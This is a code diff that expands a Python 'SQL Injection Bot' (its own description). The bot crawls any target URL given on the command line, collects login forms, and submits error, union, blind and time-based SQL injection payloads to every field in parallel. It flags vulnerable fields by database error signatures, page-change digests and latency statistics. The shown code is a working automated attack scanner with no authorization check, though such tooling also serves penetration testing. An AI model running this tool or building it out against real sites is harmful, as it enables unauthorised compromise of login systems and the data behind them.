@@ -1,14 +1,25 @@
 import argparse
+import hashlib
+import json
 import logging
+import math
 import re
+import statistics
+import tempfile
+import threading
 import time
+import unicodedata
+from collections import deque, namedtuple
+from concurrent.futures import ThreadPoolExecutor
+import requests
+from requests.adapters import HTTPAdapter
 from selenium import webdriver
 from selenium.webdriver.common.by import By
 from selenium.webdriver.support.ui import WebDriverWait
 from selenium.webdriver.support import expected_conditions as EC
 from selenium.webdriver.firefox.service import Service
 from selenium.webdriver.firefox.options import Options
-from urllib.parse import urljoin, urlparse
+from urllib.parse import parse_qsl, urlencode, urljoin, urlparse, urlunparse
 
 # Configure logging to save results to a file
 logging.basicConfig(filename='sql_injection.log', level=logging.INFO, format='%(asctime)s - %(message)s')
@@ -43,36 +54,169 @@ payloads = {
     ]
 }
 
-# Common database error patterns for detection
-error_patterns = [
-    r"You have an error in your SQL syntax",              # MySQL
-    r"unclosed quotation mark after the character string",# MSSQL
-    r"PG::SyntaxError",                                   # PostgreSQL
-    r"sqlite3.OperationalError"                           # SQLite
-]
+# Payload classes from cheapest to most expensive; time-based payloads stall every request they hit
+payload_order = ['error', 'basic', 'union', 'blind', 'time']
 
-def find_login_forms(driver, url):
-    """Locate forms on a page that likely represent login forms."""
-    try:
-        driver.get(url)
-        forms = driver.find_elements(By.TAG_NAME, 'form')
-        login_forms = []
-        for form in forms:
-            inputs = form.find_elements(By.TAG_NAME, 'input')
-            input_types = [input.get_attribute('type') for input in inputs if input.get_attribute('type')]
-            if 'password' in input_types:
-                login_forms.append(form)
-        return login_forms
-    except Exception as e:
-        logging.error(f"Error finding forms on {url}: {e}")
-        return []
+# Results that stop further testing of a field: they come from an error signature or a
+# slowdown that was measured twice, so they are not just noise
+confirmed_results = ("Possible SQL error", "Possible time-based SQL injection")
+
+# Database error signatures by DBMS; extend with --signatures
+error_signatures = {
+    'MySQL': [
+        r"You have an error in your SQL syntax",
+        r"check the manual that (?:corresponds|fits) to your (?:MySQL|MariaDB) server version",
+        r"Warning: mysqli?_",
+        r"MySqlException",
+        r"valid MySQL result",
+    ],
+    'MSSQL': [
+        r"unclosed quotation mark after the character string",
+        r"Incorrect syntax near",
+        r"System\.Data\.SqlClient\.SqlException",
+        r"Microsoft SQL Native Client error",
+        r"ODBC SQL Server Driver",
+        r"\[SQL Server\]",
+    ],
+    'PostgreSQL': [
+        r"PG::SyntaxError",
+        r"org\.postgresql\.util\.PSQLException",
+        r"ERROR:\s+syntax error at or near",
+        r"Warning: pg_",
+        r"valid PostgreSQL result",
+        r"Npgsql\.",
+    ],
+    'Oracle': [
+        r"\bORA-\d{5}",
+        r"quoted string not properly terminated",
+        r"Oracle error",
+    ],
+    'SQLite': [
+        r"sqlite3\.OperationalError",
+        r"SQLITE_ERROR",
+        r"SQLite\.Exception",
+        r"unrecognized token:",
+    ],
+    'DB2': [
+        r"DB2 SQL error",
+        r"CLI Driver.{0,40}DB2",
+    ],
+    'Generic': [
+        r"SQLSTATE\[\w+\]",
+        r"PDOException",
+        r"Syntax error or access violation",
+    ],
+}
+
+# Regions of a response that differ between requests for the same page: script and style
+# bodies (nonces, inline state), numbers (timestamps, counters) and token-like runs (CSRF
+# tokens, session IDs, hex request IDs); they are masked before a response is digested
+script_blocks = re.compile(r'(<(script|style)\b[^>]*>).*?</\2\s*>', re.IGNORECASE | re.DOTALL)
+volatile_tokens = re.compile(r'(?=[\w+/-]*\d)[\w+/-]{16,}={0,2}|\b[0-9a-fA-F]{8,}\b|\d+')
+whitespace = re.compile(r'\s+')
+
+# Query parameters that only track the visitor and never change the page
+tracking_params = {'gclid', 'fbclid', 'msclkid', 'mc_cid', 'mc_eid', '_ga', '_gl', 'yclid'}
+
+# Everything the scanner needs from a page, gathered in one script call after it loads: the
+# final URL, every link, and every form with its action (resolved against the page), method,
+# submittable fields as [name, type, value] and the attributes used to find it again
+SNAPSHOT_SCRIPT = """
+const forms = Array.from(document.forms, (form, index) => ({
+    index: index,
+    id: form.getAttribute('id'),
+    name: form.getAttribute('name'),
+    action: new URL(form.getAttribute('action') || '', document.baseURI).href,
+    method: (form.getAttribute('method') || 'get').toLowerCase(),
+    fields: Array.from(form.elements)
+        .filter(el => ['INPUT', 'SELECT', 'TEXTAREA'].includes(el.tagName) && el.name && !el.disabled)
+        .filter(el => !['checkbox', 'radio'].includes(el.type) || el.checked)
+        .map(el => [el.name, el.tagName === 'INPUT' ? (el.type || 'text').toLowerCase() : el.tagName.toLowerCase(),
+                    el.value || ''])
+}));
+const links = Array.from(document.querySelectorAll('a[href]'), a => a.href);
+return {url: location.href, forms: forms, links: links};
+"""
+
+# A form from a page snapshot: fields are (name, type, value) in document order and locator
+# is a (By, value) pair that finds the same form again after the page is reloaded
+FormSpec = namedtuple('FormSpec', 'url locator action method fields')
+
+def form_locator(form):
+    """Return a stable locator for a snapshotted form: its id, else its name, else its position."""
+    if form['id']:
+        return By.ID, form['id']
+    if form['name'] and '"' not in form['name']:
+        return By.CSS_SELECTOR, f'form[name="{form["name"]}"]'
+    return By.XPATH, f"(//form)[{form['index'] + 1}]"
+
+def snapshot_page(driver, url, limiter=None):
+    """Load a page once and return (forms as FormSpecs, links) from a single script call."""
+    if limiter is not None:
+        limiter.wait(url)
+    driver.get(url)
+    snapshot = driver.execute_script(SNAPSHOT_SCRIPT)
+    forms = [FormSpec(snapshot['url'], form_locator(form), form['action'], form['method'],
+                      [tuple(field) for field in form['fields']])
+             for form in snapshot['forms']]
+    return forms, snapshot['links']
+
+def is_login_form(form):
+    """Whether a form likely represents a login form."""
+    return any(field_type == 'password' for _, field_type, _ in form.fields)
+
+def sync_cookies(session, driver):
+    """Copy the browser's current cookies into the HTTP session."""
+    for cookie in driver.get_cookies():
+        # Host-only cookies are left without a domain; we only ever request the target site
+        domain = cookie.get('domain', '')
+        session.cookies.set(cookie['name'], cookie['value'], path=cookie.get('path', '/'),
+                            domain=domain if domain.startswith('.') else '')
+
+def http_session(driver, pool_size=10):
+    """Build a pooled HTTP session that submits forms with the browser's user agent and cookies."""
+    session = requests.Session()
+    adapter = HTTPAdapter(pool_connections=pool_size, pool_maxsize=pool_size)
+    session.mount('http://', adapter)
+    session.mount('https://', adapter)
+    session.headers['User-Agent'] = driver.execute_script("return navigator.userAgent")
+    sync_cookies(session, driver)
+    return session
+
+def form_data(form, overrides=None, fill='invalid'):
+    """
+    Build the fields a browser would submit: hidden fields keep their values, the first submit
+    button is included, other fields get fill unless overridden.
+    """
+    overrides = overrides or {}
+    data = []
+    submitted = False
+    for name, field_type, value in form.fields:
+        if field_type == 'submit':
+            if not submitted:
+                data.append((name, value))
+                submitted = True
+        elif name in overrides:
+            data.append((name, overrides[name]))
+        else:
+            data.append((name, value if field_type == 'hidden' else fill))
+    return data
+
+def submit_form(session, form, data, timeout=10):
+    """Submit form data over HTTP and return (response body, response time)."""
+    start_time = time.time()
+    if form.method == 'post':
+        response = session.post(form.action, data=data, timeout=timeout)
+    else:
+        response = session.get(form.action, params=data, timeout=timeout)
+    return response.text, time.time() - start_time
 
 def get_baseline_response(driver, form):
     """Submit a form with invalid credentials to establish a baseline response."""
     try:
         inputs = form.find_elements(By.TAG_NAME, 'input')
         for input in inputs:
-            if input.get_attribute('type') != 'submit':
+            if input.get_attribute('type') not in ('submit', 'hidden'):
                 input.clear()
                 input.send_keys('invalid')
         submit_button = form.find_element(By.XPATH, ".//input[@type='submit']")
@@ -86,92 +230,529 @@ def get_baseline_response(driver, form):
         return ""
 
 def inject_payload(driver, form, payload, field_name=None):
-    """Inject a payload into specified or all input fields and submit the form."""
+    """
+    Inject a payload into specified or all input fields and submit the form. Hidden fields can't be
+    typed into, so their value is set by script. Returns whether the payload was submitted.
+    """
     try:
+        injected = False
         inputs = form.find_elements(By.TAG_NAME, 'input')
         for input in inputs:
             if field_name and input.get_attribute('name') != field_name:
                 continue
-            if input.get_attribute('type') != 'submit':
+            field_type = input.get_attribute('type')
+            if field_type == 'hidden':
+                driver.execute_script("arguments[0].value = arguments[1];", input, payload)
+                injected = True
+            elif field_type != 'submit':
                 input.clear()
                 input.send_keys(payload)
+                injected = True
+        if not injected:
+            logging.error(f"No field {field_name} to inject payload '{payload}' into")
+            return False
         submit_button = form.find_element(By.XPATH, ".//input[@type='submit']")
         submit_button.click()
+        return True
     except Exception as e:
         logging.error(f"Error injecting payload '{payload}': {e}")
+        return False
+
+# A {m}, {m,}, {m,n} or {,n} repetition; any other brace is a literal character
+repeat_quantifier = re.compile(r'\{(?:\d+,?\d*|,\d*)\}')
+
+# An escape that stands for one character: \xhh, \uhhhh, \Uhhhhhhhh, \N{name} or an octal \0oo / \ooo.
+# Other digit escapes are backreferences.
+char_escape = re.compile(r'\\(?:x([0-9a-fA-F]{2})|u([0-9a-fA-F]{4})|U([0-9a-fA-F]{8})|N\{([^}]*)\}|(0[0-7]{0,2}|[0-7]{3}))')
+other_escape = re.compile(r'\\(?:\d{1,2}|.)?', re.DOTALL)
+
+def escaped_char(match):
+    """The character a char_escape match stands for, or None for an unknown \\N{name}."""
+    hex_code = match.group(1) or match.group(2) or match.group(3)
+    if hex_code:
+        return chr(int(hex_code, 16))
+    if match.group(4) is not None:
+        try:
+            return unicodedata.lookup(match.group(4))
+        except KeyError:
+            return None
+    return chr(int(match.group(5), 8))
+
+def literal_anchor(pattern):
+    """
+    Return the longest literal text (lower-cased) that every match of a regex must contain, or
+    None if there is none of at least 3 characters, e.g. r"\\bORA-\\d{5}" -> "ora-".
+    """
+    runs, run, depth, i = [], '', 0, 0
+    while i < len(pattern):
+        char = pattern[i]
+        if char == '\\':
+            match = char_escape.match(pattern, i)
+            literal = escaped_char(match) if match else None
+            escaped = pattern[i + 1:i + 2]
+            if literal is not None and depth == 0:
+                run += literal
+            elif escaped and not escaped.isalnum() and depth == 0:
+                run += escaped  # An escaped metacharacter is a literal
+            else:
+                runs.append(run)
+                run = ''
+            i = (match or other_escape.match(pattern, i)).end()
+            continue
+        if char == '[':
+            runs.append(run)
+            run = ''
+            i += 2 if pattern[i + 1:i + 2] in (']', '^') else 1
+            while i < len(pattern) and pattern[i] != ']':
+                i += 2 if pattern[i] == '\\' else 1
+        elif char == '|' and depth == 0:
+            return None  # Top-level alternatives share no required text
+        elif char in '*?' or (char == '{' and repeat_quantifier.match(pattern, i)):
+            runs.append(run[:-1])  # The quantified character may be absent
+            run = ''
+            if char == '{':
+                i = repeat_quantifier.match(pattern, i).end() - 1
+        elif char in '()+.^$':
+            depth += {'(': 1, ')': -1}.get(char, 0)
+            runs.append(run)
+            run = ''
+        elif depth == 0:
+            run += char
+        i += 1
+    anchor = max(runs + [run], key=len).lower()
+    return anchor if len(anchor) >= 3 else None
+
+class ErrorSignatures:
+    """
+    DBMS error signatures, compiled once. Each signature is a case-insensitive regex paired with
+    a literal anchor that any match must contain; a response is lower-cased once and a regex only
+    runs when its anchor occurs in it, so clean responses cost a few substring scans.
+    """
+
+    def __init__(self, signatures):
+        self.signatures = [(dbms, literal_anchor(pattern), re.compile(pattern, re.IGNORECASE))
+                           for dbms, patterns in signatures.items() for pattern in patterns]
 
-def analyze_response(driver, baseline_source, payload_type, response_time):
-    """Analyze the response to detect potential SQL injection vulnerabilities."""
+    def search(self, text):
+        """Return the DBMSs whose error signatures occur in text."""
+        lowered = text.lower()
+        found = set()
+        for dbms, anchor, regex in self.signatures:
+            if dbms not in found and (anchor is None or anchor in lowered) and regex.search(text):
+                found.add(dbms)
+        return frozenset(found)
+
+def load_signatures(path=None):
+    """Return the built-in error signatures, extended by a JSON file of {dbms: [patterns]} if given."""
+    signatures = {dbms: list(patterns) for dbms, patterns in error_signatures.items()}
+    if path:
+        with open(path, encoding='utf-8') as f:
+            for dbms, patterns in json.load(f).items():
+                signatures.setdefault(dbms, []).extend(patterns)
+    return signatures
+
+default_signatures = ErrorSignatures(error_signatures)
+
+def response_digest(source):
+    """Return a 16-byte digest of a response with its volatile regions masked."""
+    text = script_blocks.sub(r'\1</\2>', source)
+    text = whitespace.sub(' ', volatile_tokens.sub('0', text))
+    return hashlib.blake2b(text.encode('utf-8', 'replace'), digest_size=16).digest()
+
+# What a form's normal response looks like: the digests seen across the baseline samples, the
+# DBMS errors already present in them (not evidence of injection) and its LatencyProfile
+Baseline = namedtuple('Baseline', 'digests errors latency')
+
+class LatencyProfile:
+    """
+    Normal response times of an endpoint, measured from repeated benign submissions. A response
+    is slow if it exceeds the mean by z standard deviations and by at least min_delay seconds.
+    """
+
+    def __init__(self, samples, z=4.0, min_delay=2.0):
+        self.mean = statistics.fmean(samples)
+        self.stdev = statistics.pstdev(samples)
+        self.threshold = self.mean + max(z * self.stdev, min_delay)
+
+    def is_slow(self, response_time):
+        return response_time > self.threshold
+
+    def deviation(self, response_time):
+        """Return how many standard deviations response_time is above the mean."""
+        return (response_time - self.mean) / self.stdev if self.stdev else float('inf')
+
+def analyze_response(current_source, baseline, payload_type, response_time, signatures=None):
+    """
+    Analyze the response to detect potential SQL injection vulnerabilities.
+    Time-based payloads are judged against the endpoint's latency profile, and the finding says how
+    far the response deviates from it, or against a fixed 5 s without one; the response is compared
+    with the baseline by digest, not by content.
+    """
     try:
-        current_source = driver.page_source
-        if payload_type == 'time' and response_time > 5:
+        latency = baseline.latency
+        errors = (signatures or default_signatures).search(current_source) - baseline.errors
+        if payload_type == 'time' and latency and latency.is_slow(response_time):
+            return (f"Possible time-based SQL injection ({response_time:.2f}s, "
+                    f"{latency.deviation(response_time):.1f} sd above the {latency.mean:.3f}s mean)")
+        elif payload_type == 'time' and not latency and response_time > 5:
             return "Possible time-based SQL injection"
-        elif any(re.search(pattern, current_source, re.IGNORECASE) for pattern in error_patterns):
-            return "Possible SQL error"
-        elif current_source != baseline_source:
+        elif errors:
+            return f"Possible SQL error ({', '.join(sorted(errors))})"
+        elif response_digest(current_source) not in baseline.digests:
             return "Response changed - possible vulnerability"
         return "No change"
     except Exception as e:
         logging.error(f"Error analyzing response: {e}")
         return "Analysis failed"
 
-def test_form(driver, form, url):
-    """Test a single form with all payloads."""
-    logging.info(f"Testing form on {url}")
-    baseline_source = get_baseline_response(driver, form)
-    if not baseline_source:
-        return
-    input_names = [input.get_attribute('name') for input in form.find_elements(By.TAG_NAME, 'input') 
-                   if input.get_attribute('type') != 'submit' and input.get_attribute('name')]
-    for field in input_names:
-        for payload_type, payload_list in payloads.items():
-            for payload in payload_list:
-                start_time = time.time()
-                inject_payload(driver, form, payload, field)
-                try:
-                    WebDriverWait(driver, 10).until(EC.presence_of_element_located((By.TAG_NAME, 'body')))
-                except:
-                    logging.warning(f"Timeout with payload: {payload} on field: {field}")
-                    driver.back()
-                    continue
-                end_time = time.time()
-                response_time = end_time - start_time
-                result = analyze_response(driver, baseline_source, payload_type, response_time)
-                if result != "No change":
-                    logging.info(f"Field: {field}, Payload: {payload}, Result: {result}")
-                driver.back()
-                time.sleep(1)  # Avoid overwhelming the server
-
-def crawl_and_test(driver, start_url):
-    """Crawl the website and test all discovered login forms."""
-    visited = set()
-    to_visit = [start_url]
-    while to_visit:
-        url = to_visit.pop(0)
-        if url in visited or not urlparse(url).netloc == urlparse(start_url).netloc:
-            continue
-        visited.add(url)
-        logging.info(f"Visiting: {url}")
-        forms = find_login_forms(driver, url)
-        for form in forms:
-            test_form(driver, form, url)
+def confirm_finding(driver, form, field, payload, payload_type, latency=None, limiter=None, signatures=None):
+    """Replay a finding in the browser, against a browser baseline, and return whether it holds."""
+    try:
+        # The page load and both submissions each take a token
+        for _ in range(3 if limiter is not None else 0):
+            limiter.wait(form.action)
+        driver.get(form.url)
+        baseline_source = get_baseline_response(driver, driver.find_element(*form.locator))
+        if not baseline_source:
+            return False
+        signatures = signatures or default_signatures
+        baseline = Baseline(frozenset([response_digest(baseline_source)]), signatures.search(baseline_source), latency)
+        # Find the form again: the element from before driver.back() is stale
+        element = driver.find_element(*form.locator)
+        start_time = time.time()
+        if not inject_payload(driver, element, payload, field):
+            return False
+        WebDriverWait(driver, 10).until(EC.presence_of_element_located((By.TAG_NAME, 'body')))
+        result = analyze_response(driver.page_source, baseline, payload_type, time.time() - start_time, signatures)
+        driver.back()
+        return result != "No change"
+    except Exception as e:
+        logging.error(f"Error confirming payload '{payload}' on field {field}: {e}")
+        return False
+
+class TokenBucket:
+    """Allows rate requests per second on average, and up to burst at once after a quiet spell."""
+
+    def __init__(self, rate, burst=1):
+        self.rate = rate
+        self.burst = max(burst, 1)
+        self.tokens = self.burst
+        self.updated = time.monotonic()
+        self.lock = threading.Lock()
+
+    def acquire(self):
+        """Take a token, sleeping until it is due; return the seconds spent waiting."""
+        with self.lock:
+            now = time.monotonic()
+            self.tokens = min(self.burst, self.tokens + (now - self.updated) * self.rate)
+            self.updated = now
+            self.tokens -= 1  # May go negative: later callers queue up behind this reservation
+            wait = -self.tokens / self.rate if self.tokens < 0 else 0.0
+        if wait:
+            time.sleep(wait)
+        return wait
+
+class RateLimiter:
+    """
+    A token bucket per host, shared by every page load and form submission.
+    Records how many requests went to each host and how long they were held back; rate 0 disables throttling.
+    """
+
+    def __init__(self, rate, burst=1):
+        self.rate = rate
+        self.burst = burst
+        self.lock = threading.Lock()
+        self.buckets = {}
+        self.requests = {}
+        self.throttled = {}
+
+    def wait(self, url):
+        """Block until a request to url's host is allowed; return the seconds spent waiting."""
+        host = urlparse(url).netloc
+        with self.lock:
+            if host not in self.buckets:
+                self.buckets[host] = TokenBucket(self.rate, self.burst) if self.rate > 0 else None
+                self.requests[host] = 0
+                self.throttled[host] = 0.0
+            bucket = self.buckets[host]
+        waited = bucket.acquire() if bucket is not None else 0.0
+        with self.lock:
+            self.requests[host] += 1
+            self.throttled[host] += waited
+        return waited
+
+    def report(self):
+        for host in sorted(self.requests):
+            logging.info(f"Rate limit for {host}: {self.requests[host]} requests, "
+                         f"{self.throttled[host]:.1f}s spent throttled")
+
+# One payload submission: a payload in one field of one form
+Job = namedtuple('Job', 'form field payload_type payload')
+
+class HostSlots:
+    """Per-host semaphores capping how many submissions run against one host at a time."""
+
+    def __init__(self, per_host):
+        self.per_host = per_host
+        self.lock = threading.Lock()
+        self.slots = {}
+
+    def __call__(self, url):
+        host = urlparse(url).netloc
+        with self.lock:
+            if host not in self.slots:
+                self.slots[host] = threading.BoundedSemaphore(self.per_host)
+            return self.slots[host]
+
+def send_payload(session, form, data, slots, limiter, timeout=10):
+    """
+    Submit form data once the host's rate limit allows it, while holding a slot for the host;
+    return (response body, response time).
+    """
+    limiter.wait(form.action)
+    with slots(form.action):
+        return submit_form(session, form, data, timeout)
+
+def profile_form(session, form, slots, limiter, samples=5, timeout=10, z=4.0, min_delay=2.0, signatures=None):
+    """
+    Submit a form with invalid values samples times and return its Baseline, or None on error.
+    Only digests of the responses are kept.
+    """
+    signatures = signatures or default_signatures
+    digests, errors, response_times = set(), set(), []
+    try:
+        for _ in range(max(samples, 2)):
+            source, response_time = send_payload(session, form, form_data(form), slots, limiter, timeout)
+            digests.add(response_digest(source))
+            errors |= signatures.search(source)
+            response_times.append(response_time)
+    except requests.RequestException as e:
+        logging.error(f"Error getting baseline response for {form.action}: {e}")
+        return None
+    return Baseline(frozenset(digests), frozenset(errors), LatencyProfile(response_times, z, min_delay))
+
+def run_job(session, job, baseline, slots, limiter, timeout=10, signatures=None):
+    """
+    Submit one payload and return the analysis result, or a note on why it couldn't be analyzed.
+    A slow response to a time-based payload only counts if it is slow again when resent.
+    """
+    data = form_data(job.form, {job.field: job.payload})
+    response_time = None
+    for attempt in range(2 if job.payload_type == 'time' else 1):
         try:
-            driver.get(url)
-            links = driver.find_elements(By.TAG_NAME, 'a')
-            for link in links:
-                href = link.get_attribute('href')
-                if href and urlparse(href).netloc == urlparse(start_url).netloc:
+            current_source, response_time = send_payload(session, job.form, data, slots, limiter, timeout)
+        except requests.Timeout:
+            if job.payload_type != 'time':
+                return "Timeout"
+            current_source, response_time = "", timeout  # A stalled time-based payload is a slowdown too
+        except requests.RequestException as e:
+            return f"Request failed: {e}"
+        if job.payload_type != 'time' or not baseline.latency.is_slow(response_time):
+            break
+    return analyze_response(current_source, baseline, job.payload_type, response_time, signatures)
+
+def test_forms(session, forms, driver=None, limiter=None, workers=8, per_host=4, timeout=10,
+               samples=5, z=4.0, min_delay=2.0, signatures=None):
+    """
+    Test forms with payloads, replaying the parsed forms over HTTP. Each form's latency is
+    profiled first; then payload classes run in payload_order, each class as one batch of
+    (form, field, payload) jobs on a pool of workers, at most per_host at a time against one host.
+    Time-based payloads go to a host one at a time, so a payload that stalls the backend can't make
+    the requests queued behind it look slow too.
+    A field is dropped from later classes once it has a confirmed finding. Results are logged in
+    job order regardless of completion order. Findings are confirmed in the browser when a driver is given.
+    """
+    limiter = limiter or RateLimiter(0)
+    slots = HostSlots(per_host)
+    time_slots = HostSlots(1)
+    with ThreadPoolExecutor(max_workers=workers) as executor:
+        baselines = list(executor.map(lambda form: profile_form(session, form, slots, limiter, samples, timeout,
+                                                                z, min_delay, signatures), forms))
+        remaining = []
+        for form, baseline in zip(forms, baselines):
+            if baseline is not None:
+                logging.info(f"Testing form on {form.url} ({form.method.upper()} {form.action}); "
+                             f"latency {baseline.latency.mean:.3f}s +/- {baseline.latency.stdev:.3f}s, "
+                             f"{len(baseline.digests)} baseline variants")
+                remaining.extend((form, name, baseline) for name, field_type, _ in form.fields if field_type != 'submit')
+
+        findings = []
+        for payload_type in payload_order:
+            jobs = [(Job(form, name, payload_type, payload), baseline)
+                    for form, name, baseline in remaining for payload in payloads[payload_type]]
+            class_slots = time_slots if payload_type == 'time' else slots
+            results = executor.map(lambda item: run_job(session, *item, class_slots, limiter, timeout, signatures),
+                                   jobs)
+            done = set()
+            for (job, baseline), result in zip(jobs, results):
+                if result == "Timeout":
+                    logging.warning(f"Timeout with payload: {job.payload} on field: {job.field} ({job.form.action})")
+                elif result.startswith("Request failed"):
+                    logging.error(f"Error injecting payload '{job.payload}' on {job.form.action}: {result}")
+                elif result != "No change":
+                    logging.info(f"Form: {job.form.action}, Field: {job.field}, Payload: {job.payload}, Result: {result}")
+                    findings.append((job, baseline.latency))
+                    if result.startswith(confirmed_results):
+                        done.add((id(job.form), job.field))
+            remaining = [(form, name, baseline) for form, name, baseline in remaining if (id(form), name) not in done]
+
+    # The browser is a single session, so confirmations run one at a time after the HTTP pass
+    if driver is not None:
+        for job, latency in findings:
+            confirmed = confirm_finding(driver, job.form, job.field, job.payload, job.payload_type, latency,
+                                        limiter, signatures)
+            logging.info(f"Browser {'confirmed' if confirmed else 'did not confirm'}: "
+                         f"Form: {job.form.action}, Field: {job.field}, Payload: {job.payload}")
+    return [job for job, _ in findings]
+
+def normalize_url(url):
+    """Lower-case scheme and host, drop the fragment and tracking parameters, and sort the query."""
+    parsed = urlparse(url)
+    query = sorted((key, value) for key, value in parse_qsl(parsed.query, keep_blank_values=True)
+                   if key.lower() not in tracking_params and not key.lower().startswith('utm_'))
+    return urlunparse((parsed.scheme.lower(), parsed.netloc.lower(), parsed.path or '/',
+                       parsed.params, urlencode(query), ''))
+
+class BloomFilter:
+    """Fixed-size set membership with a bounded false-positive rate and no false negatives."""
+
+    def __init__(self, capacity, error_rate=0.001):
+        self.size = max(8, int(-capacity * math.log(error_rate) / math.log(2) ** 2))
+        self.hashes = max(1, round(self.size / capacity * math.log(2)))
+        self.bits = bytearray((self.size + 7) // 8)
+
+    def _positions(self, item):
+        # Double hashing: two 64-bit halves of one digest generate all k positions
+        digest = hashlib.blake2b(item.encode('utf-8'), digest_size=16).digest()
+        first, second = int.from_bytes(digest[:8], 'little'), int.from_bytes(digest[8:], 'little')
+        return [(first + i * second) % self.size for i in range(self.hashes)]
+
+    def __contains__(self, item):
+        return all(self.bits[pos >> 3] & (1 << (pos & 7)) for pos in self._positions(item))
+
+    def add(self, item):
+        for pos in self._positions(item):
+            self.bits[pos >> 3] |= 1 << (pos & 7)
+
+class Frontier:
+    """
+    FIFO crawl queue of (url, depth) with O(1) push and pop. URLs are normalized and deduplicated
+    when pushed against a Bloom filter sized for max_urls, so memory stays fixed however many links
+    are found (a false positive skips a URL). Past max_memory queued items, new items spill to an
+    on-disk queue and are read back in order as the in-memory queue drains.
+    """
+
+    def __init__(self, max_memory=10000, max_urls=1000000):
+        self.max_memory = max(max_memory, 1)
+        self.memory = deque()
+        self.seen = BloomFilter(max(max_urls, 1))
+        self.disk = None
+        self.read_pos = 0
+        self.spilled = 0
+
+    def __len__(self):
+        return len(self.memory) + self.spilled
+
+    def push(self, url, depth):
+        """Queue a URL unless it was queued before; return whether it was added."""
+        url = normalize_url(url)
+        if url in self.seen:
+            return False
+        self.seen.add(url)
+        if self.spilled or len(self.memory) >= self.max_memory:
+            # Once spilling, everything goes to disk until it drains, keeping FIFO order
+            if self.disk is None:
+                self.disk = tempfile.TemporaryFile('w+', encoding='utf-8')
+            self.disk.seek(0, 2)
+            self.disk.write(f"{depth}\t{url}\n")
+            self.spilled += 1
+        else:
+            self.memory.append((url, depth))
+        return True
+
+    def pop(self):
+        """Return the next (url, depth); the frontier must not be empty."""
+        if not self.memory:
+            self._refill()
+        return self.memory.popleft()
+
+    def _refill(self):
+        self.disk.seek(self.read_pos)
+        for _ in range(min(self.spilled, self.max_memory)):
+            depth, url = self.disk.readline().rstrip('\n').split('\t', 1)
+            self.memory.append((url, int(depth)))
+            self.spilled -= 1
+        self.read_pos = self.disk.tell()
+        if not self.spilled:
+            self.disk.seek(0)
+            self.disk.truncate()
+            self.read_pos = 0
+
+    def close(self):
+        if self.disk is not None:
+            self.disk.close()
+
+def crawl_and_test(driver, start_url, session, limiter, confirm=True, max_depth=5, max_pages=1000,
+                   frontier_memory=10000, max_urls=1000000, **scan_options):
+    """
+    Crawl the website breadth-first, up to max_depth links from start_url and max_pages pages,
+    then test all discovered login forms concurrently; all requests go through limiter.
+    """
+    host = urlparse(start_url).netloc.lower()
+    frontier = Frontier(frontier_memory, max_urls)
+    frontier.push(start_url, 0)
+    pages = 0
+    login_forms = []
+    try:
+        while frontier and pages < max_pages:
+            url, depth = frontier.pop()
+            pages += 1
+            logging.info(f"Visiting: {url}")
+            try:
+                forms, links = snapshot_page(driver, url, limiter)
+            except Exception as e:
+                logging.error(f"Error crawling {url}: {e}")
+                continue
+            login_forms.extend(form for form in forms if is_login_form(form))
+            if depth < max_depth:
+                for href in links:
                     absolute_url = urljoin(url, href)
-                    if absolute_url not in visited:
-                        to_visit.append(absolute_url)
-        except Exception as e:
-            logging.error(f"Error crawling {url}: {e}")
+                    if urlparse(absolute_url).netloc.lower() == host:
+                        frontier.push(absolute_url, depth + 1)
+        if frontier:
+            logging.info(f"Page budget of {max_pages} reached with {len(frontier)} URLs still queued")
+    finally:
+        frontier.close()
+    logging.info(f"Found {len(login_forms)} login forms on {pages} pages")
+    sync_cookies(session, driver)  # Pick up any session cookies set while crawling
+    test_forms(session, login_forms, driver if confirm else None, limiter, **scan_options)
 
 def main():
     """Main function to initialize the bot and start testing with command-line URL."""
     # Parse command-line arguments
     parser = argparse.ArgumentParser(description="SQL Injection Bot for testing login pages.")
     parser.add_argument('-u', '--url', required=True, help="Target URL (e.g., www.example.com)")
+    parser.add_argument('-t', '--timeout', type=float, default=10, help="Seconds to wait for each form submission")
+    parser.add_argument('-r', '--rate', type=float, default=5.0,
+                        help="Requests per second allowed against each host (0 for no limit)")
+    parser.add_argument('--burst', type=int, default=5, help="Requests allowed at once against each host after a pause")
+    parser.add_argument('-m', '--max_depth', type=int, default=5, help="Maximum crawl depth from the target URL")
+    parser.add_argument('--max_pages', type=int, default=1000, help="Maximum number of pages to crawl")
+    parser.add_argument('--frontier_memory', type=int, default=10000,
+                        help="Queued URLs kept in memory before the crawl queue spills to disk")
+    parser.add_argument('--max_urls', type=int, default=1000000,
+                        help="Expected distinct URLs, sizes the crawl's fixed-size seen filter")
+    parser.add_argument('-n', '--workers', type=int, default=8, help="Payload submissions running in parallel")
+    parser.add_argument('--per_host', type=int, default=4, help="Maximum parallel submissions against one host")
+    parser.add_argument('--baseline_samples', type=int, default=5,
+                        help="Benign submissions per form used to measure its normal latency")
+    parser.add_argument('--z_score', type=float, default=4.0,
+                        help="Standard deviations above normal latency that flag a time-based payload")
+    parser.add_argument('--min_delay', type=float, default=2.0,
+                        help="Minimum slowdown in seconds that flags a time-based payload")
+    parser.add_argument('--signatures', help="JSON file of extra DBMS error signatures, as {dbms: [regex, ...]}")
+    parser.add_argument('--no_confirm', action='store_true',
+                        help="Report HTTP findings without replaying them in the browser")
     args = parser.parse_args()
 
     # Ensure the URL has a scheme (http:// or https://)
@@ -179,6 +760,9 @@ def main():
     if not target_url.startswith(('http://', 'https://')):
         target_url = 'http://' + target_url  # Default to http if no scheme provided
 
+    # Every page load and form submission shares one rate limit per host
+    limiter = RateLimiter(args.rate, args.burst)
+
     # Set up Firefox options
     firefox_options = Options()
     firefox_options.binary_location = "/usr/bin/firefox"  # Path to Firefox binary in Ubuntu
@@ -193,11 +777,18 @@ def main():
 
     try:
         logging.info(f"Starting SQL injection test on {target_url}")
-        crawl_and_test(driver, target_url)
+        workers = max(args.workers, 1)
+        session = http_session(driver, workers)
+        crawl_and_test(driver, target_url, session, limiter, not args.no_confirm, args.max_depth, args.max_pages,
+                       args.frontier_memory, args.max_urls, workers=workers,
+                       per_host=max(args.per_host, 1), timeout=args.timeout,
+                       samples=args.baseline_samples, z=args.z_score, min_delay=args.min_delay,
+                       signatures=ErrorSignatures(load_signatures(args.signatures)))
     except Exception as e:
         logging.error(f"Main execution error: {e}")
     finally:
         driver.quit()
+        limiter.report()
         logging.info("Testing completed.")
 
 if __name__ == "__main__":